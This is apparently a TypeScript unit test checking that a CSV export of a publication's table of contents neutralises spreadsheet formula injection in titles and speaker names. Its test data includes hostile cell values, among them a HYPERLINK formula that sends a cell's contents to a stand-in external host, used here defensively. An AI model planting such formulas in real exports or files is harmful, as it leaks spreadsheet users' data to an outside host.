import { describe, expect, it } from 'vitest';
import type { PagedContentsEntry } from '../../src/api/pipeline.js';
import { formatContents } from '../../src/export/contents.js';

/** The cells of a CSV file as a spreadsheet reads them (RFC 4180: quoted fields, doubled quotes, CRLF rows). */
function cells(text: string): string[][] {
  const rows: string[][] = [[]];
  const field = /("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n|$)/gy;
  const source = text.replace(/^\uFEFF/, '');
  for (let match = field.exec(source); match && field.lastIndex <= source.length; match = field.exec(source)) {
    const raw = match[1] as string;
    rows.at(-1)?.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] === '\r\n') rows.push([]);
    if (match[2] === '' || match[0] === '') break;
  }
  return rows.filter((row) => row.length > 1);
}

describe('point 5: the contents as CSV carry no formula', () => {
  it('a title or speaker starting with = + - @ tab or CR is written as text, not a formula', async () => {
    const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点击")', '@SUM(1+1)', '+1+2', '-2+3', '\t=1+1', '\r=1+1'];
    const entries = hostile.map(
      (text, index): PagedContentsEntry =>
        ({
          anchor: `d${index}`,
          title: text,
          speaker: index === 1 ? '@SUM(A1:A9)' : '张三',
          kind: 'report',
          file: `/x/0${index}-report.md`,
          page: index + 3,
        }) as PagedContentsEntry,
    );
    const text = (await formatContents(entries, 'csv', { cwd: '/x', title: '公报', publication: '公报' })) as string;
    const rows = cells(text).slice(1);
    for (const [index, row] of rows.entries()) {
      for (const cell of [row[0], row[1]] as string[]) expect(cell, `row ${index}`).not.toMatch(/^[=+\-@\t\r]/);
      // The text is all there, after the quote that makes it text.
      expect(row[0]).toBe(`'${hostile[index]}`);
      expect(row[3]).toBe(String(index + 3));
    }
    expect(rows[1]?.[1]).toBe("'@SUM(A1:A9)");
  });
});
